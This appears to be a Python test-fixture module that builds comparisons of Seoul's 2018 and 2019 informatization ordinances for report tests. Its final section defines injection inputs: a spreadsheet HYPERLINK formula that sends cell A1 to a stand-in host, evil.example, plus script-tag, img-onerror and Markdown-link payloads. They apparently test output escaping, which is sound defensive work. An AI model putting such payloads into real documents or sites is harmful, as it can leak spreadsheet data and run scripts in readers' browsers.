"""Hand-built Documents and Comparisons for report tests (no reader, no aligner needed).

Texts are copied from the bundled Seoul ordinance (2018 -> 2019); the pairs
are the ones a reader of both versions finds (old Article 34 "Promotion of
Narrowing of Digital Divide" -> new Article 20 "Closing Digital Divide", ...).
Word diffs come from ``diffing.worddiff.diff_texts``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from itertools import zip_longest

from corpus.ids import child_eid, identify_addenda, identify_article, version_iri
from corpus.model import (
    AddendaArticle,
    AddendaBlock,
    Article,
    Document,
    Note,
    Provision,
    SourceText,
    Span,
    Version,
)
from diffing.model import AddendaLink, ChangeKind, Comparison, Pair, Row, TextDiff, UnitRef
from diffing.worddiff import diff_texts


@dataclass
class _Spans:
    """Distinct dummy spans, so every node has its own place."""

    next: int = 0

    def __call__(self, length: int = 1) -> Span:
        span = Span(source=0, start=self.next, end=self.next + length)
        self.next += length
        return span


SPANS = _Spans()


def note(raw: str, target: str = "") -> Note:
    return Note(
        raw=raw,
        span=SPANS(len(raw)),
        scope="article" if not target else "paragraph",
        target=target,
        events=(),
        eid="",  # given by identify_article
    )


@dataclass
class Art:
    """An article as units: ``[(label, text, notes), ...]``; label ``""`` is the lead."""

    number: str
    title: str
    units: list[tuple[str, str, list[str]]]
    notes: list[str] = field(default_factory=list)

    def build(self) -> Article:
        lead = next((t for label, t, _ in self.units if label == ""), "")
        paragraphs = tuple(
            Provision(
                kind="paragraph",
                label=label,
                number=label.strip("()."),
                text=text,
                notes=tuple(note(n, label) for n in notes),
                children=(),
                span=SPANS(len(text)),
                eid="",
            )
            for label, text, notes in self.units
            if label
        )
        body = "\n".join(f"{label} {text}".strip() for label, text, _ in self.units)
        built = Article(
            number=self.number,
            title=self.title,
            chapter=None,
            section=None,
            chapter_ordinal=None,
            lead=lead,
            paragraphs=paragraphs,
            notes=tuple(note(n) for n in self.notes),
            status="in_force",
            text=body,
            span=SPANS(len(body)),
            eid="",
        )
        return identify_article(built, child_eid("", "article", self.number))

    @property
    def eid(self) -> str:
        return child_eid("", "article", self.number)

    def unit_refs(self) -> list[UnitRef]:
        return [
            UnitRef(
                article=self.number,
                label=label,
                text=f"{label} {text}".strip(),
                notes=tuple(note(n, label) for n in notes),
                eid=child_eid(self.eid, "paragraph", label) if label else self.eid,
            )
            for label, text, notes in self.units
        ]


def block(
    heading: str, number: str | None, date: str | None, articles: list[tuple[str, str, str]]
) -> AddendaBlock:
    arts = tuple(
        AddendaArticle(number=n, title=t, text=body, span=SPANS(len(body)), eid="", omitted=body == "")
        for n, t, body in articles
    )
    text = "\n".join(
        f"Article {n} ({t})\n{body}" if t else f"Article {n} {body or 'Omitted.'}" for n, t, body in articles
    )
    built = AddendaBlock(
        heading=heading,
        instrument="Ordinance" if number else None,
        number=number,
        date=date,
        text=text,
        articles=arts,
        span=SPANS(len(text)),
        eid="",
    )
    return identify_addenda([built])[0]


def version(
    label: str, title: str, number: str, date: str, arts: list[Art], addenda: list[AddendaBlock]
) -> Version:
    return Version(
        label=label,
        title=title,
        instrument="Ordinance",
        number=number,
        date=date,
        whole_amendment=False,
        amendment_kind=None,
        divisions=(),
        articles=tuple(a.build() for a in arts),
        addenda=tuple(addenda),
        tables=(),
        warnings=(),
        iri=version_iri("seoul", number, date, label),
    )


def _row(old: UnitRef | None, new: UnitRef | None, moved: str = "") -> Row:
    diff: TextDiff = diff_texts(old.text if old else "", new.text if new else "")
    same = sum(len("".join(diff.old_tokens[i1:i2])) for t, i1, i2, _, _ in diff.opcodes if t == "equal")
    total = max(len(diff.old_text), len(diff.new_text), 1)
    return Row(old=old, new=new, score=same / total, diff=diff, moved=moved)


def pair(
    old: list[Art],
    new: list[Art],
    change: ChangeKind,
    score: float,
    addenda: tuple[AddendaLink, ...] = (),
    reason: str = "",
) -> Pair:
    old_units = [u for a in old for u in a.unit_refs()]
    new_units = [u for a in new for u in a.unit_refs()]
    rows = tuple(_row(o, n) for o, n in zip_longest(old_units, new_units))
    return Pair(
        old=tuple(a.number for a in old),
        new=tuple(a.number for a in new),
        change=change,
        score=score,
        renumbered=bool(old and new and old[0].number != new[0].number),
        modified=change != "unchanged" and any(r.diff.changed for r in rows),
        rows=rows,
        addenda=addenda,
        old_eids=tuple(a.eid for a in old),
        new_eids=tuple(a.eid for a in new),
        reason=reason,
    )


# ---------------------------------------------------------------- the Seoul sample

OLD_34 = Art(
    "34",
    "Promotion of Narrowing of Digital Divide",
    [
        (
            "(1)",
            "The Mayor shall establish policies necessary for every "
            "citizen to have easy access to information "
            "and communications services and make good use of information.",
            [],
        ),
        (
            "(2)",
            "The Mayor may promote the following to narrow the digital divide:\n"
            "4. The conduct of education necessary for narrowing the digital divide;\n"
            "5. Other matters necessary for narrowing the digital divide.",
            ["<Amended by Ordinance No. 5527, Aug. 1, 2013>"],
        ),
    ],
)
NEW_20 = Art(
    "20",
    "Closing Digital Divide",
    [
        (
            "(1)",
            "The Mayor shall formulate necessary policies to ensure that "
            "all citizens have easy access to, and "
            "benefit from the use of, information communications services.",
            [],
        ),
        (
            "(2)",
            "The Mayor may promote the following to close the digital divide:\n"
            "3. Provide education necessary to close the digital divide;\n"
            "4. Other matters necessary for closing the digital divide.",
            [],
        ),
    ],
)
OLD_6 = Art(
    "6",
    "Formulation and Execution of Informatization Implementation Plan",
    [
        (
            "(1)",
            "The Mayor shall formulate and execute an informatization implementation plan of the Seoul "
            "Metropolitan Government (hereinafter referred to as "
            '"implementation plan") each year according to '
            "a master plan after deliberation by the Committee.",
            ["<Amended by Ordinance No. 6487, May 18, 2017>"],
        ),
        (
            "(2)",
            "The Mayor shall first secure funds necessary for the execution of an implementation plan.",
            [],
        ),
    ],
)
NEW_6 = Art(
    "6",
    "Formulation and Execution of Implementation Plans",
    [
        (
            "(1)",
            "The Mayor shall formulate and execute an implementation "
            "plan for the smart city and informatization "
            "of the Seoul Metropolitan Government every year in accordance with a master plan (hereinafter "
            'referred to as "implementation plan").',
            [],
        ),
        (
            "(2)",
            "The Mayor shall give priority to securing financial "
            "resources necessary to execute an implementation "
            "plan.",
            [],
        ),
    ],
)
OLD_5_2 = Art(
    "5-2",
    "Reflecting Informatization Plan, etc.",
    [
        (
            "(2)",
            "The size, etc. of the large-scale investment project, for "
            "which the informatization plan shall be "
            "formulated under paragraph (1), shall be prescribed by rule.",
            [],
        )
    ],
    notes=["[This Article Newly Inserted by Ordinance No. 5527, Aug. 1, 2013]"],
)
NEW_23 = Art(
    "23",
    "Registration of Copyrights",
    [
        (
            "",
            "The Mayor shall register programs, content, and other "
            "matters requiring copyright protection under "
            "relevant regulations; and shall take measures to protect them.",
            [],
        )
    ],
)
OLD_25 = Art(
    "25",
    "Registration of Copyright",
    [
        (
            "",
            "The Mayor shall register programs, various content, etc. "
            "that require protection by copyright, and "
            "take measures for the protection thereof in accordance with the relevant provisions.",
            [],
        )
    ],
)
NEW_10 = Art(
    "10",
    "Participation by Citizens and Private-Public Partnership",
    [
        (
            "(1)",
            "The Mayor shall share how the policy is being promoted and "
            "encourage active participation by citizens.",
            [],
        )
    ],
)

OLD_ADDENDA = [
    block(
        "ADDENDA",
        None,
        None,
        [
            (
                "1",
                "Enforcement Date",
                "This Ordinance shall enter into force on the date of its promulgation.",
            ),
            ("5", "", ""),
        ],
    ),
    block(
        "ADDENDA <Ordinance No. 5527, Aug.1, 2013>",
        "5527",
        "2013-08-01",
        [
            (
                "2",
                "Applicability to Reflecting Informatization Plan, etc.",
                "The amended provisions of Article 5-2 shall apply beginning "
                "with the formulation of the first "
                "informatization plan for the relevant investment project "
                "after this Ordinance enters into force.",
            )
        ],
    ),
]
NEW_ADDENDA = [
    block(
        "ADDENDA",
        None,
        None,
        [
            (
                "1",
                "Enforcement Date",
                "This Ordinance shall enter into force on the date of its promulgation.",
            ),
            (
                "2",
                "Repeal of Ordinance of the Seoul Metropolitan Government",
                "The Seoul Metropolitan Government Ordinance on Ubiquitous "
                "City Construction Projects shall hereby "
                "be repealed.",
            ),
        ],
    )
]

OLD_LABEL = "Ordinance No. 6851, Mar. 22, 2018 (Amendment of Other Laws)"
NEW_LABEL = "Ordinance No. 7026, Mar. 28, 2019 (Whole Amendment)"
TITLE = "SEOUL METROPOLITAN GOVERNMENT FRAMEWORK ORDINANCE ON INFORMATIZATION"


def comparison(extra_old: list[Art] | None = None, extra_new: list[Art] | None = None) -> Comparison:
    """The Seoul sample; ``extra_*`` articles are appended and paired 1:1 as ``modified``."""
    extra_old = extra_old or []
    extra_new = extra_new or []
    olds = [OLD_6, OLD_25, OLD_34, OLD_5_2, *extra_old]
    news = [NEW_6, NEW_10, NEW_20, NEW_23, *extra_new]
    doc = Document(
        name="seoul-sample",
        title=TITLE,
        sources=(SourceText(name="page.txt", text=""),),
        old=version(OLD_LABEL, TITLE, "6851", "2018-03-22", olds, OLD_ADDENDA),
        new=version(
            NEW_LABEL,
            "SEOUL METROPOLITAN GOVERNMENT FRAMEWORK ORDINANCE ON SMART CITY AND INFORMATIZATION",
            "7026",
            "2019-03-28",
            news,
            NEW_ADDENDA,
        ),
        pieces=(),
    )
    pairs = [
        pair([OLD_6], [NEW_6], "modified", 0.62),
        pair([], [NEW_10], "added", 0.0),
        pair([OLD_34], [NEW_20], "renumbered", 0.55, reason="same subject: digital divide"),
        pair([OLD_25], [NEW_23], "renumbered", 0.71),
        pair(
            [OLD_5_2],
            [],
            "deleted",
            0.0,
            addenda=(
                AddendaLink(
                    version="old",
                    block="5527",
                    article="2",
                    reason="The amended provisions of Article 5-2",
                    eid="addenda_5527__art_2",
                ),
            ),
        ),
        *(pair([o], [n], "modified", 0.5) for o, n in zip(extra_old, extra_new, strict=True)),
    ]
    return Comparison(document=doc, pairs=tuple(pairs))


INJECTION_TITLE = '=HYPERLINK("http://evil.example/","<script>alert(1)</script>")'
INJECTION_TEXT = (
    '=HYPERLINK("http://evil.example/?q="&A1,"x") <script>alert("x")</script> | *b* [l](http://evil.example)'
)


def injection_comparison() -> Comparison:
    """The Seoul sample plus an article whose title and text try HTML, formula and Markdown injection."""
    old = Art("41", INJECTION_TITLE, [("", INJECTION_TEXT, ["<img src=x onerror=alert(1)>"])])
    new = Art("41", INJECTION_TITLE, [("", INJECTION_TEXT + " changed <b>bold</b>", [])])
    return comparison([old], [new])
